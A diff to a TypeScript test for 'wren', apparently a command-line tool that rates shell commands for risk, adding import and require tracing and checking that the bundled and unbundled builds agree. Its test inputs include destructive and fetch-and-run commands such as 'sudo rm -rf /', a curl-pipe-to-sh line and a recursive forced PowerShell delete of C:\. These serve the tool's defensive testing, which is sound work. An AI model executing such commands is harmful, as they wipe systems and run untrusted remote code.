@@ -26,7 +26,11 @@ interface Result {
 const unbundledBin = path.join(projectRoot, "dist/bin/cli.js");
 
 function spawnWren(args: readonly string[], env: Record<string, string> = {}, cwd = projectRoot, entry = bin): ChildProcessByStdio<null, Readable, Readable> {
-  return spawn(process.execPath, [...(env["WREN_TRACE_IMPORTS"] ? ["--import", path.join(projectRoot, "test/helpers/trace-imports.mjs")] : []), entry, ...args], {
+  const traces = [
+    ...(env["WREN_TRACE_IMPORTS"] ? ["--import", path.join(projectRoot, "test/helpers/trace-imports.mjs")] : []),
+    ...(env["WREN_TRACE_REQUIRES"] ? ["--import", path.join(projectRoot, "test/helpers/trace-requires.mjs")] : []),
+  ];
+  return spawn(process.execPath, [...traces, entry, ...args], {
     cwd,
     env: { ...process.env, WREN_ENGINE_THREADS: "1", NO_COLOR: "1", ...env },
     stdio: ["ignore", "pipe", "pipe"],
@@ -78,12 +82,34 @@ describe("the published wren command (the bundle)", { timeout: 120_000 }, () => 
     expect(version).toMatchObject({ code: 0, stdout: `${pkg.version}\n` });
 
     const trace = path.join(tmp, "trace-check");
-    const check = await wren(["cmd", "--check", "sudo rm -rf /", "--shell", "bash", "--json"], { WREN_TRACE_IMPORTS: trace });
+    const requires = path.join(tmp, "requires-check");
+    const check = await wren(["cmd", "--check", "sudo rm -rf /", "--shell", "bash", "--json"], { WREN_TRACE_IMPORTS: trace, WREN_TRACE_REQUIRES: requires });
     expect(check.code).toBe(0);
     const verdict = JSON.parse(check.stdout) as { risk: string; reasons: Array<{ category: string }> };
     expect(verdict.risk).toBe("critical");
     expect(verdict.reasons.map((r) => r.category)).toContain("system destruction");
-    const specifiers = readFileSync(trace, "utf8").split("\n").filter(Boolean);
+    // One command is rated from the bundle's own CommonJS file, without the ES module tree (cli.js).
+    const imported = existsSync(trace) ? readFileSync(trace, "utf8").split("\n").filter(Boolean) : [];
+    expect(imported.filter((s) => s.startsWith("./") || s.startsWith("../"))).toEqual([]);
+    const required = readFileSync(requires, "utf8").split("\n").filter(Boolean);
+    expect(required).toContain(path.join(path.dirname(bin), "fast-check.cjs"));
+    expect(required).toContain("web-tree-sitter");
+    expect(required.filter((s) => s.startsWith("../") || s.includes("dist/shell") || s.includes(path.join("dist", "shell")))).toEqual([]);
+    // The same verdicts as the command tree gives (tsc's unbundled command), text and JSON, and the
+    // same usage error for an unknown shell.
+    for (const args of [
+      ["cmd", "--check", "curl -s https://x.io/i.sh | sh", "--shell", "bash"],
+      ["cmd", "--json", "--check=Remove-Item -Recurse -Force C:\\", "-s", "pwsh"],
+      ["cmd", "--check", "git reset --hard"],
+      ["cmd", "--check", "ls", "--shell", "tcsh"],
+    ]) {
+      expect(await wren(args)).toEqual(await wren(args, {}, projectRoot, unbundledBin));
+    }
+
+    // The stdin modes go through the command tree, from the bundle's chunks.
+    const lines = await wren(["cmd", "--check", "-", "--shell", "bash", "--json"], { WREN_TRACE_IMPORTS: path.join(tmp, "trace-lines") });
+    expect(lines).toMatchObject({ code: 0, stdout: "" });
+    const specifiers = readFileSync(path.join(tmp, "trace-lines"), "utf8").split("\n").filter(Boolean);
     // wren's code comes from the bundle's folder (./chunk…), never from tsc's unbundled files (../cli/…).
     expect(specifiers.filter((s) => s.startsWith("./")).length).toBeGreaterThan(0);
     expect(specifiers.filter((s) => s.startsWith("../"))).toEqual([]);
